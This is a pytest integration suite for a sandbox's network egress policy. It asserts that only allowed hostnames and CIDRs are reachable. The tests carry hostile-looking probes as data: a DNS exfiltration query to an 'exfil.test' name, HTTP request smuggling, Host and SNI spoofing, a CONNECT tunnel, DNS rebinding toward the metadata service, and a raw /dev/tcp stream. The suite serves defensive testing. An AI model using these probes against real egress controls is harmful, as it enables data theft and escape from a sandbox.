"""What a policy lets through, and what not."""

import time
from collections.abc import Callable

import psutil
import pytest
from runloop_api_client import Runloop

from tests.integration.network_policy.box import AAAA, ANY, HTTPS, TXT, A, Box, MakeBox, new_policy
from tests.integration.network_policy.world import (
    GATEWAY,
    HOST,
    METADATA,
    NAMES_OPEN_SECONDS,
    NEIGHBOUR,
    OTHER,
    PRIVATE,
    PUBLIC_RESOLVER,
    RESOLVER,
    SHARED,
    World,
)
from tests.serving import ServerProcess


def test_a_policy_that_allows_nothing_lets_nothing_through(make_box: MakeBox, world: World) -> None:
    box = make_box(description="nothing")
    asked = len(world.asked())
    for server in (RESOLVER, PUBLIC_RESOLVER, OTHER, _gateway(box), "127.0.0.53"):
        for tcp in (False, True):
            answer = box.asks("a-secret-message.exfil.test", server=server, tcp=tcp)
            assert answer.startswith(("3 0", "none")), f"{server} {tcp}: {answer}"
    assert box.asks("a-secret-message.exfil.test", TXT, server=RESOLVER) == "3 0"
    assert box.looks_up("allowed.test") == []
    assert world.asked()[asked:] == [], "a question has left the box"
    for address in (SHARED, OTHER, PRIVATE, METADATA, GATEWAY, HOST, RESOLVER):
        for port in (80, 443, 853, 7000):
            assert not box.connects(address, port), f"{address}:{port}"
        assert not box.echoes(address)
        assert box.run(f"ping -c1 -W1 {address}")[0] != 0


def test_allowed_names_are_reached_and_others_are_not(make_box: MakeBox, world: World) -> None:
    box = make_box(allowed_hostnames=["allowed.test"])
    asked = len(world.asked())
    assert box.looks_up("allowed.test") == [SHARED]
    assert box.fetches("https://allowed.test/") == f"host=allowed.test sni=allowed.test at={SHARED} got=0\n"
    assert box.fetches("http://allowed.test/") == f"host=allowed.test sni=None at={SHARED} got=0\n"
    assert box.fetches("https://ALLOWED.test:8443/") is not None
    assert box.looks_up("other.test") == []
    assert box.fetches("https://other.test/") is None
    assert not box.connects(OTHER, 443)
    assert "other.test" not in world.asked()[asked:]


def test_an_address_is_not_open_before_its_name_was_asked_for(make_box: MakeBox) -> None:
    box = make_box(allowed_hostnames=["allowed.test"])
    assert not box.connects(SHARED, 443)
    assert box.looks_up("allowed.test") == [SHARED]
    assert box.connects(SHARED, 443)


def test_an_allowed_address_does_not_open_its_other_names(make_box: MakeBox) -> None:
    box = make_box(allowed_hostnames=["allowed.test"])
    assert box.looks_up("allowed.test") == [SHARED]
    for port in (443, 8443):
        to = f"--connect-to ::{SHARED}:{port}"
        assert box.fetches(f"https://allowed.test:{port}/", to) is not None
        assert box.fetches(f"https://notwild.test:{port}/", to) is None
        assert box.fetches(f"https://{SHARED}:{port}/") is None, "TLS without a server name"
    for port in (80, 8080):
        to = f"--connect-to ::{SHARED}:{port}"
        assert box.fetches(f"http://allowed.test:{port}/", to) is not None
        assert box.fetches(f"http://notwild.test:{port}/", to) is None
        assert box.fetches(f"http://allowed.test:{port}/", to, "-H 'Host: notwild.test'") is None
        assert box.fetches(f"http://{SHARED}:{port}/") is None
        assert box.fetches("http://notwild.test/", f"-x http://{SHARED}:{port}", "-H 'Host: allowed.test'") is None
        assert box.fetches("http://allowed.test/", to, "--http2-prior-knowledge") is None
    tunnel = "CONNECT notwild.test:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"
    assert box.says(SHARED, 8080, tunnel) == ""
    assert box.says(SHARED, 443, "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n") == ""


def test_a_second_request_on_a_connection_reaches_nobody(make_box: MakeBox) -> None:
    box = make_box(allowed_hostnames=["allowed.test"])
    assert box.looks_up("allowed.test") == [SHARED]
    first = "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"
    second = "GET / HTTP/1.1\\r\\nHost: notwild.test\\r\\n\\r\\n"
    for port in (80, 8080):
        for lead in ("", "\\r\\n", " \\r\\n"):
            answered = box.says(SHARED, port, lead + first + second)
            assert "host=allowed.test" in answered, lead
            assert "notwild" not in answered
        assert "notwild" not in box.says(SHARED, port, "\\r\\n" + second)


def test_a_websocket_passes_by_name_without_tls(make_box: MakeBox) -> None:
    box = make_box(allowed_hostnames=["allowed.test"])
    assert box.looks_up("allowed.test") == [SHARED]
    asks = "HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n"
    second = "GET / HTTP/1.1\\r\\nHost: notwild.test\\r\\n\\r\\n"
    for port in (80, 8080):
        agreed = box.says(SHARED, port, f"GET /agree {asks}hello\\nworld\\n")
        assert agreed.startswith("HTTP/1.1 101 "), agreed
        assert agreed.endswith("echo hello\necho world\n")
        refused = box.says(SHARED, port, f"GET /refuse {asks}{second}")
        assert "host=allowed.test" in refused, "a server that stays with HTTP answers this request"
        assert "notwild" not in refused, "and no other"
        assert box.says(SHARED, port, f"GET /agree {asks.replace('allowed', 'notwild')}") == ""


def test_what_a_box_sends_by_name_is_not_carried_by_the_server(make_box: MakeBox, server: ServerProcess) -> None:
    box = make_box(allowed_hostnames=["allowed.test"])
    assert box.looks_up("allowed.test") == [SHARED]
    apart = [one for one in psutil.Process(server.pid).children() if "loopyard.runtime.crun.egress" in one.cmdline()]
    assert len(apart) == 1

    def spent() -> tuple[float, float]:
        both = (psutil.Process(server.pid).cpu_times(), apart[0].cpu_times())
        return both[0].user + both[0].system, both[1].user + both[1].system

    before = spent()
    flood = f"for i in 1 2 3 4 5 6 7 8; do curl -s http://allowed.test/{100 << 20} >/dev/null & done; wait"
    questions = "for i in $(seq 300); do getent hosts no-$i.test; done"
    box.run(f"{flood} & ({questions}) >/dev/null; wait")
    after = spent()
    assert after[1] - before[1] > 0.2, "it was carried"
    assert after[0] - before[0] < (after[1] - before[1]) / 2 + 0.2, "by another process"


def test_wildcards_stand_for_one_or_more_labels(make_box: MakeBox) -> None:
    box = make_box(allowed_hostnames=["*.wild.test"])
    assert box.looks_up("a.wild.test") == [SHARED]
    assert box.looks_up("b.a.wild.test") == [SHARED]
    assert box.looks_up("A.WILD.test") == [SHARED]
    assert box.looks_up("wild.test") == []
    assert box.looks_up("notwild.test") == []
    assert box.fetches("https://b.a.wild.test/") is not None
    assert box.fetches("https://wild.test/", f"--connect-to ::{SHARED}:443") is None
    assert box.fetches("https://notwild.test/", f"--connect-to ::{SHARED}:443") is None


def test_an_alias_is_followed_but_its_target_is_not_allowed_by_itself(make_box: MakeBox) -> None:
    box = make_box(allowed_hostnames=["alias.test"])
    assert box.looks_up("alias.test") == [OTHER]
    assert box.fetches("https://alias.test/") == f"host=alias.test sni=alias.test at={OTHER} got=0\n"
    assert box.looks_up("cdn.elsewhere.test") == []
    assert box.fetches("https://cdn.elsewhere.test/", f"--connect-to ::{OTHER}:443") is None


def test_questions_of_other_kinds_are_answered_within_the_policy(make_box: MakeBox, world: World) -> None:
    box = make_box(allowed_hostnames=["allowed.test", "long.test"])
    assert box.asks("allowed.test", A, server=PUBLIC_RESOLVER) == "0 1", "whatever server is asked, this one answers"
    assert box.asks("allowed.test", A, server=RESOLVER, tcp=True) == "0 1"
    assert box.asks("allowed.test", TXT, server=RESOLVER) == "0 1"
    assert box.asks("allowed.test", AAAA, server=RESOLVER) == "0 0"
    assert box.asks("allowed.test", HTTPS, server=RESOLVER) == "0 0"
    assert box.asks("allowed.test", ANY, server=RESOLVER) == "5 0"
    assert box.asks("other.test", TXT, server=RESOLVER) == "3 0"
    assert box.looks_up("long.test") == [SHARED], "an answer that the resolver gives by TCP only"
    mixed = "AlLoWeD.tEsT"
    assert box.looks_up(mixed) == [SHARED]
    assert mixed not in world.asked(), "how a name is written carries a message out"


def test_an_allowed_name_that_leads_inside_opens_nothing(make_box: MakeBox) -> None:
    names = ["rebind-metadata.test", "rebind-private.test", "rebind-host.test", "rebind-loopback.test", "mixed.test"]
    box = make_box(allowed_hostnames=names)
    for name, address in zip(names, (METADATA, PRIVATE, HOST, "127.0.0.1"), strict=False):
        assert box.looks_up(name) == [], name
        assert box.fetches(f"http://{name}/") is None
        assert box.fetches(f"http://{name}/", f"--connect-to ::{address}:80") is None
    assert box.looks_up("mixed.test") == [OTHER]
    assert not box.connects(PRIVATE, 80)


def test_addresses_close_some_time_after_their_last_use(make_box: MakeBox, world: World) -> None:
    box = make_box(allowed_hostnames=["short.test"])
    assert box.looks_up("short.test") == [OTHER]
    carried = _long_stream(box, OTHER)
    world.write_zone(short__test={"A": [SHARED], "ttl": 1})
    try:
        assert box.looks_up("short.test") == [SHARED]
        for _ in range(8):
            time.sleep(2)
            assert box.connects(SHARED, 443), "it is in use, though its answer has long lived"
        time.sleep(NAMES_OPEN_SECONDS * 1.5 + 6)
        assert not box.connects(SHARED, 443)
        assert box.connects(OTHER, 443), "a connection to it is open still"
        assert "12345" in carried(), "a connection that was open goes on"
        time.sleep(NAMES_OPEN_SECONDS * 1.5 + 6)
        assert not box.connects(OTHER, 443)
    finally:
        world.write_zone(short__test={"A": [OTHER], "ttl": 1})


def test_refusals_stand_in_the_devboxs_log_by_name(make_box: MakeBox) -> None:
    box = make_box(allowed_hostnames=["allowed.test"])
    assert box.looks_up("other.test") == []
    assert box.looks_up("other.test") == []
    assert box.looks_up("allowed.test") == [SHARED]
    assert box.fetches("https://shared.test/", f"--resolve shared.test:443:{SHARED}") is None

    def told() -> list[str]:
        logs = box.client.devboxes.logs.list(box.id).logs
        return [entry.message or "" for entry in logs if entry.source == "kmsg"]

    until(lambda: len(told()) >= 2)
    assert told() == [
        "The network policy does not allow other.test: it was not resolved.",
        "A connection to shared.test, port 443, was refused: the network policy does not allow shared.test.",
    ]


def until(condition: Callable[[], bool], seconds: float = 120) -> None:
    end = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < end, "it did not come about in time"
        time.sleep(0.1)


def _long_stream(box: Box, address: str):  # noqa: ANN202
    """A connection that stays open, and a function that uses it again."""
    waiting = "while [ ! -e /tmp/go ]; do sleep 0.2; done"
    program = f"exec 3<>/dev/tcp/{address}/2222; {waiting}; echo 12345 >&3; timeout 2 cat <&3"
    started = box.client.devboxes.execute_async(box.id, command=f"bash -c '{program}'")

    def use() -> str:
        box.run("touch /tmp/go")
        done = box.client.devboxes.executions.await_completed(started.execution_id, devbox_id=box.id)
        return done.stdout or ""

    return use


def test_a_server_that_speaks_first_is_reached_by_name(make_box: MakeBox) -> None:
    box = make_box(allowed_hostnames=["allowed.test"])
    assert box.looks_up("allowed.test") == [SHARED]
    assert box.says(SHARED, 2222, "hello\\n") == "welcome\nhello\n"
    assert box.says(SHARED, 7000, "hello\\n") == "hello\n"
    assert not box.echoes(SHARED), "names open nothing but TCP: what goes by UDP cannot be told apart"


def test_much_goes_through_and_arrives_whole(make_box: MakeBox) -> None:
    box = make_box(allowed_hostnames=["allowed.test"])
    size = 64 << 20
    status, out = box.run(f"curl -sk https://allowed.test/{size} | wc -c")
    assert status == 0
    assert int(out) > size
    sent = box.run("head -c 20000000 /dev/zero > /tmp/z; curl -sk --data-binary @/tmp/z http://allowed.test/")[1]
    assert "got=20000000" in sent


def test_networks_are_open_at_their_ports_and_protocols(make_box: MakeBox) -> None:
    ports = [{"port": 443, "protocol": "TCP"}, {"port": 4990, "end_port": 5010, "protocol": "UDP"}, {"port": 8443}]
    cidrs = [{"cidr": "198.51.100.0/28", "ports": ports}, {"cidr": f"{OTHER}/32"}]
    box = make_box(allowed_cidrs=cidrs)
    assert box.fetches(f"https://{SHARED}/") is not None, "no name is needed"
    assert box.connects(SHARED, 8443)
    assert box.echoes(SHARED)
    for port in (80, 7000, 5000):
        assert not box.connects(SHARED, port), port
    for port in (80, 443, 7000, 8443):
        assert box.connects(OTHER, port)
    assert box.echoes(OTHER)
    pinged = box.run(f"ping -c1 -W2 {OTHER} 2>&1")
    assert pinged[0] == 0, pinged[1]
    assert box.run(f"ping -c1 -W2 {SHARED}")[0] != 0
    assert not box.connects(PUBLIC_RESOLVER, 80)
    assert box.looks_up("allowed.test") == []


def test_networks_and_names_add_up(make_box: MakeBox) -> None:
    box = make_box(
        allowed_hostnames=["allowed.test"], allowed_cidrs=[{"cidr": f"{OTHER}/32", "ports": [{"port": 443}]}]
    )
    assert box.fetches("https://allowed.test/") is not None
    assert box.fetches("https://anything.test/", f"--connect-to ::{OTHER}:443") is not None
    assert box.fetches("https://anything.test/", f"--connect-to ::{SHARED}:443") is None


def test_a_private_network_is_open_only_where_it_is_named(make_box: MakeBox) -> None:
    named = make_box(
        allowed_cidrs=[{"cidr": "10.12.0.0/16", "ports": [{"port": 80}]}], allowed_hostnames=["mixed.test"]
    )
    assert named.connects(PRIVATE, 80)
    assert not named.connects(PRIVATE, 443)
    assert named.looks_up("mixed.test") == [PRIVATE, OTHER]
    everything = make_box(allowed_cidrs=[{"cidr": "0.0.0.0/0"}])
    assert everything.connects(OTHER, 80)
    for address in (PRIVATE, METADATA, HOST, NEIGHBOUR, RESOLVER):
        assert not everything.connects(address, 80), address
    metadata = make_box(allowed_cidrs=[{"cidr": "169.254.0.0/16"}, {"cidr": f"{HOST}/32"}])
    assert not metadata.connects(METADATA, 80), "no policy opens it"
    assert not metadata.connects(HOST, 9999)


def test_the_operators_mirrors_are_open_where_a_policy_says_so(make_box: MakeBox) -> None:
    box = make_box(allow_runloop_mirrors=True)
    assert box.fetches("https://shared.test/") is not None
    assert box.looks_up("allowed.test") == []


@pytest.mark.parametrize("kind", ["names", "networks"])
def test_an_update_reaches_a_running_box(client: Runloop, make_box: MakeBox, kind: str) -> None:
    allowed = {
        "names": {"allowed_hostnames": ["allowed.test"]},
        "networks": {"allowed_cidrs": [{"cidr": f"{SHARED}/32"}]},
    }
    policy_id = new_policy(client)
    box, twin = make_box(policy_id), make_box(policy_id)
    url = "https://allowed.test/"
    if kind == "networks":
        url = f"https://{SHARED}/"
    assert box.fetches(url) is None
    client.network_policies.update(policy_id, **allowed[kind])  # type: ignore[arg-type]
    assert box.fetches(url) is not None
    assert twin.fetches(url) is not None
    client.network_policies.update(policy_id, allowed_hostnames=[], allowed_cidrs=[])
    assert box.fetches(url) is None
    assert twin.fetches(url) is None
    assert not box.connects(SHARED, 443)
    client.network_policies.update(policy_id, allow_all=True)
    assert box.connects(OTHER, 7000)
    assert box.looks_up("other.test") == [OTHER]
    client.network_policies.update(policy_id, allow_all=False)
    assert not box.connects(OTHER, 7000)


@pytest.mark.parametrize("kind", ["names", "networks"])
def test_an_update_ends_what_is_no_longer_allowed(client: Runloop, make_box: MakeBox, kind: str) -> None:
    by = {"names": {"allowed_hostnames": ["other.test"]}, "networks": {"allowed_cidrs": [{"cidr": f"{OTHER}/32"}]}}
    policy_id = new_policy(client, **by[kind])
    box = make_box(policy_id)
    box.looks_up("other.test")
    carried = _long_stream(box, OTHER)
    time.sleep(0.5)
    client.network_policies.update(policy_id, allowed_hostnames=["allowed.test"], allowed_cidrs=[])
    assert "12345" not in carried()


def test_a_slot_that_is_used_again_keeps_nothing_of_the_policy_before(
    client: Runloop, make_box: MakeBox, world: World, server: ServerProcess
) -> None:
    policy_id = new_policy(client, allowed_hostnames=["allowed.test"], allow_devbox_to_devbox=True)
    before = client.devboxes.create_and_await_running(launch_parameters={"network_policy_id": policy_id})
    box = Box(client, before.id)
    address = box.run("hostname -I")[1].strip()
    assert box.looks_up("allowed.test") == [SHARED]
    assert address in world.elements(server)
    client.devboxes.shutdown(before.id)
    deadline = time.monotonic() + 120
    while address in world.elements(server):
        assert time.monotonic() < deadline, "the rules of a devbox that is gone are still there"
        time.sleep(0.1)
    for _ in range(60):
        next_box = make_box()
        if next_box.run("hostname -I")[1].strip() == address:
            assert next_box.connects(OTHER, 7000)
            assert next_box.looks_up("other.test") == [OTHER]
            return
    pytest.fail("the slot was not used again")


def _gateway(box: Box) -> str:
    first, _, last = box.run("hostname -I")[1].strip().rpartition(".")
    return f"{first}.{int(last) - 1}"
